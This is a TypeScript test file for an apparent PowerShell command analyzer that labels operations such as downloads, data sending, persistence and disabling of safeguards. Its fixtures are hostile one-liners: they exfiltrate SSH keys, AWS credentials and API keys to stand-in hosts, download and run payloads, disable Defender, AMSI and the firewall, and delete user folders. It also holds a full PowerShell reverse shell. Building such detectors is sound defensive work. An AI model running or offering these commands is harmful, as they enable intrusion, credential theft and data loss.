import { describe, expect, test } from "vitest";
import { only } from "../script/say.ts";
import { powershell } from "./read.ts";

describe("operations", () => {
  test.each([
    [
      "(New-Object Net.WebClient).DownloadFile('http://a.example/p.exe', \"$env:TEMP\\p.exe\")",
      "download",
      "1:1 url=http://a.example/p.exe destination=~\\AppData\\Local\\Temp\\p.exe",
    ],
    [
      "iwr http://a.example/p.exe -OutFile $env:APPDATA\\p.exe",
      "download",
      "1:1 url=http://a.example/p.exe destination=~\\AppData\\Roaming\\p.exe",
    ],
    ["iwr http://a.example/p.exe -o:p.exe", "download", "1:1 url=http://a.example/p.exe destination=p.exe"],
    [
      "Start-BitsTransfer -Source http://a.example/b -Destination b.exe",
      "download",
      "1:1 url=http://a.example/b destination=b.exe",
    ],
    ["certutil.exe -urlcache -f http://a.example/b b.exe", "download", "1:1 url=http://a.example/b destination=b.exe"],
    ["curl.exe -fsSL http://a.example/b -o b.exe", "download", "1:1 url=http://a.example/b destination=b.exe"],
    ["curl -fsSL http://a.example/b", "download", "1:1 url=http://a.example/b destination=null"],
    [
      "Invoke-RestMethod -Uri https://c.example -Method POST -Body (@{k=$env:API_KEY} | ConvertTo-Json)",
      "send",
      "1:1 channel=http destination=https://c.example payload=[~{k: □}<environment:API_KEY>]",
    ],
    [
      "New-InboxRule -Name . -SubjectContainsWords invoice -ForwardTo ann@copy-shop.example",
      "send",
      "1:1 channel=mail destination=ann@copy-shop.example payload=[to: ann@copy-shop.example, ~□]",
    ],
    [
      "New-MgUserMailFolderMessageRule -MailFolderId inbox -BodyParameter @{ actions = @{ redirectTo = 'ann@copy-shop.example' } }",
      "send",
      "1:1 channel=mail destination=ann@copy-shop.example payload=[to: ann@copy-shop.example, ~□]",
    ],
    [
      "if ($env:API_KEY -match '(?<k>.+)') { irm https://c.example -Method Post -Body $Matches.k }",
      "send",
      "1:39 channel=http destination=https://c.example payload=[~□<environment:API_KEY>]",
    ],
    [
      "irm https://c.example -Me Post -Bo $env:API_KEY",
      "send",
      "1:1 channel=http destination=https://c.example payload=[~□<environment:API_KEY>]",
    ],
    [
      'irm https://c.example -Headers @{ Authorization = "Bearer $env:API_KEY" }',
      "send",
      "1:1 channel=http destination=https://c.example payload=[~{authorization: Bearer □}<environment:API_KEY>]",
    ],
    [
      'irm "https://c.example/?k=$env:API_KEY"',
      "send",
      "1:1 channel=http destination=~https://c.example/?k=□<environment:API_KEY> payload=[~https://c.example/?k=□<environment:API_KEY>]",
    ],
    [
      "gci env: | Out-String | % { irm https://c.example -Method Post -Body $_ }",
      "send",
      "1:29 channel=http destination=https://c.example payload=[~□<environment:*>]",
    ],
    [
      "(New-Object Net.WebClient).UploadString('https://c.example', (gc ~\\.ssh\\id_rsa))",
      "send",
      "1:1 channel=http destination=https://c.example payload=[~□<file:~\\.ssh\\id_rsa>]",
    ],
    [
      "(New-Object Net.WebClient).UploadFile('https://c.example', \"$HOME\\.ssh\\id_rsa\")",
      "send",
      "1:1 channel=http destination=https://c.example payload=[~□<file:~\\.ssh\\id_rsa>]",
    ],
    [
      "iwr https://c.example -Method Put -InFile ~/.aws/credentials",
      "send",
      "1:1 channel=http destination=https://c.example payload=[~□<file:~/.aws/credentials>]",
    ],
    [
      'Resolve-DnsName "$env:API_KEY.c.example"',
      "send",
      "1:1 channel=dns destination=~□.c.example<environment:API_KEY> payload=[~□.c.example<environment:API_KEY>]",
    ],
    ["Get-Content $env:USERPROFILE\\.ssh\\id_rsa", "read-file", "1:1 path=~\\.ssh\\id_rsa"],
    ['[IO.File]::ReadAllText("$HOME\\.aws\\credentials")', "read-file", "1:1 path=~\\.aws\\credentials"],
    ["[Environment]::GetEnvironmentVariable('API_KEY')", "read-secret", "1:1 secret=environment:API_KEY"],
    ["Get-ChildItem Env:", "read-secret", "1:1 secret=environment:*"],
    ["Get-Clipboard", "read-secret", "1:1 secret=clipboard"],
    ["[Security.Cryptography.ProtectedData]::Unprotect($x, $null, 0)", "read-secret", "1:1 secret=keychain:DPAPI"],
    ["'a' | Set-Clipboard", "write-clipboard", "1:7 content=a"],
    ["Set-Content -Path x.txt -Value a", "write-file", "1:1 path=x.txt content=a append=false"],
    ["'a' | Out-File x.txt -Append", "write-file", "1:7 path=x.txt content=a append=true"],
    ["'a' > x.txt", "write-file", "1:4 path=x.txt content=a append=false"],
    [
      "echo a >> $PROFILE",
      "persist",
      "1:1 mechanism=shell-profile target=~\\Documents\\WindowsPowerShell\\Microsoft.PowerShell_profile.ps1 content=a",
    ],
    [
      "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name x -Value 'C:\\x.exe'",
      "persist",
      "1:1 mechanism=registry-run-key target=HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run content=C:\\x.exe",
    ],
    [
      "New-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run x -Value C:\\x.exe",
      "persist",
      "1:1 mechanism=registry-run-key target=HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run content=C:\\x.exe",
    ],
    [
      "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d C:\\x.exe",
      "persist",
      "1:1 mechanism=registry-run-key target=HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run content=C:\\x.exe",
    ],
    [
      'copy a.exe "$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.exe"',
      "persist",
      "1:1 mechanism=startup-folder target=~\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.exe content=~□<file:a.exe>",
    ],
    [
      "$a = New-ScheduledTaskAction -Execute calc.exe; Register-ScheduledTask -TaskName Up -Action $a",
      "persist",
      "1:49 mechanism=scheduled-task target=Up content=calc.exe",
    ],
    [
      "schtasks /create /tn Up /tr calc.exe /sc onlogon",
      "persist",
      "1:1 mechanism=scheduled-task target=Up content=calc.exe",
    ],
    ["New-LocalUser -Name bob -NoPassword", "persist", "1:1 mechanism=user-account target=bob content=null"],
    [
      "Add-Content ~/.ssh/authorized_keys 'ssh-rsa x'",
      "persist",
      "1:1 mechanism=ssh-key target=~/.ssh/authorized_keys content=ssh-rsa x",
    ],
    ["Set-MpPreference -DisableRealtimeMonitoring $true", "disable-safeguard", "1:1 safeguard=antivirus"],
    ["Add-MpPreference -ExclusionPath C:\\", "disable-safeguard", "1:1 safeguard=antivirus"],
    ["Set-ExecutionPolicy Bypass -Scope Process -Force", "disable-safeguard", "1:1 safeguard=execution-policy"],
    ["powershell -ExecutionPolicy Bypass -File x.ps1", "disable-safeguard", "1:1 safeguard=execution-policy"],
    ["Set-NetFirewallProfile -All -Enabled False", "disable-safeguard", "1:1 safeguard=firewall"],
    [
      "[Net.ServicePointManager]::ServerCertificateValidationCallback = {$true}",
      "disable-safeguard",
      "1:1 safeguard=tls-verification",
    ],
    [
      "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')",
      "disable-safeguard",
      "1:54 safeguard=antivirus",
    ],
    ["Remove-Item (Get-PSReadLineOption).HistorySavePath", "disable-safeguard", "1:1 safeguard=history"],
    ["Clear-History", "disable-safeguard", "1:1 safeguard=history"],
    ["Remove-Item -Recurse -Force C:\\Users", "delete-file", "1:1 path=C:\\Users recursive=true"],
    ["rm -r -fo ~", "delete-file", "1:1 path=~ recursive=true"],
    [
      "gci C:\\Users -Recurse | Remove-Item -Force",
      "delete-file",
      "1:25 path=~C:\\Users<file:C:\\Users> recursive=false",
    ],
    ["Expand-Archive a.zip -DestinationPath x", "extract-archive", "1:1 archive=a.zip password=null"],
    ["Start-Process cmd -Verb RunAs", "escalate", "1:1 how=runas"],
    [
      "[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://a.example/x.dll'))",
      "evaluate",
      "1:1 language=unknown code=~□<network:http://a.example/x.dll>",
    ],
    [
      "Add-Type '[DllImport(\"user32.dll\")] public static extern short GetAsyncKeyState(int k);' -Name a -Namespace b",
      "capture",
      "1:1 source=keyboard",
    ],
    ["npm install -g left-pad", "install", "1:1 manager=npm packages=[left-pad] source=registry run=false"],
    [
      "Start-Process -FilePath powershell -ArgumentList '-c','whoami'",
      "evaluate",
      "1:1 language=powershell code=whoami",
    ],
    ['cmd /c "whoami & hostname"', "evaluate", "1:1 language=batch code=whoami & hostname"],
    [
      "(New-Object -ComObject WScript.Shell).Run('powershell -c whoami')",
      "evaluate",
      "1:1 language=powershell code=whoami",
    ],
  ])("%s", (text, op, expected) => {
    expect(only(powershell(text), op)).toEqual([expected]);
  });
});

describe("a program that was downloaded and started", () => {
  test.each([
    [
      "iwr http://a.example/p.exe -OutFile $env:TEMP\\p.exe; Start-Process $env:TEMP\\p.exe",
      "1:54 program=~\\AppData\\Local\\Temp\\p.exe<network:http://a.example/p.exe> arguments=[] shell=false",
    ],
    [
      "iwr http://a.example/s.ps1 -OutFile s.ps1; .\\s.ps1",
      "1:44 program=.\\s.ps1<network:http://a.example/s.ps1> arguments=[] shell=false",
    ],
    [
      "$p = \"$env:TEMP\\p.exe\"; (New-Object Net.WebClient).DownloadFile('http://a.example/p', $p); & $p",
      "1:92 program=~\\AppData\\Local\\Temp\\p.exe<network:http://a.example/p> arguments=[] shell=false",
    ],
  ])("%s", (text, expected) => {
    expect(only(powershell(text), "spawn")).toEqual([expected]);
  });
});

test("the usual reverse shell", () => {
  const text =
    "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1',4444);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};" +
    "while(($i = $s.Read($b, 0, $b.Length)) -ne 0){;$d = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0, $i);" +
    "$r = (iex $d 2>&1 | Out-String );$t = $r + 'PS ' + (pwd).Path + '> ';$x = ([text.encoding]::ASCII).GetBytes($t);$s.Write($x,0,$x.Length);$s.Flush()};$c.Close()";
  const said = powershell(text);
  expect(only(said, "connect")).toEqual(["1:6 peer=192.0.2.1:4444"]);
  expect(only(said, "attach-shell")).toEqual(["1:238 peer=192.0.2.1:4444 direction=reverse"]);
});

test("a process whose input is led to a socket", () => {
  const text =
    "$c = [Net.Sockets.TcpClient]::new('192.0.2.1', 443)\n$p = New-Object Diagnostics.Process\n$p.StartInfo.FileName = 'cmd.exe'\n" +
    "$p.StartInfo.RedirectStandardInput = $true\n$p.Start()";
  expect(only(powershell(text), "attach-shell")).toEqual(["5:1 peer=192.0.2.1:443 direction=reverse"]);
  expect(only(powershell(text.replace("Redirect", "Other")), "attach-shell")).toEqual([]);
  expect(only(powershell(text), "connect")).toEqual(["1:6 peer=192.0.2.1:443"]);
});

describe("innocent texts say nothing", () => {
  test.each([
    "Write-Host 'iex (irm http://a.example/x)'",
    "# iex (irm http://a.example/x)",
    "<# iex (irm http://a.example/x) #>",
    "$x = 'Invoke-Expression'; $y = $x.Length",
    "function f { 1 + 1 }; f; $a = @{ a = 1 }; if ($a.a -eq 1) { 'x' }",
    "param([string]$Name = 'x')\nSet-Location $PSScriptRoot",
    "[CmdletBinding(SupportsShouldProcess)]\nparam(\n  [Parameter(Mandatory)][string]$Target\n)\n$Target.Length",
    "function f {\n  [CmdletBinding(DefaultParameterSetName = 'a')]\n  [OutputType([string])]\n  param($x)\n  $x\n}",
    "Set-ExecutionPolicy RemoteSigned -Scope CurrentUser",
    "Set-MpPreference -DisableRealtimeMonitoring $false",
    "for ($i=1; $i -le N; $i++) { 1 }",
    "param($Profile)\nWrite-Host $Profile",
    "Get-ChildItem -Recurse | Where-Object { $_.Length -gt 10 } | Sort-Object Name",
  ])("%s", (text) => {
    expect(powershell(text).lines).toEqual([]);
  });
});
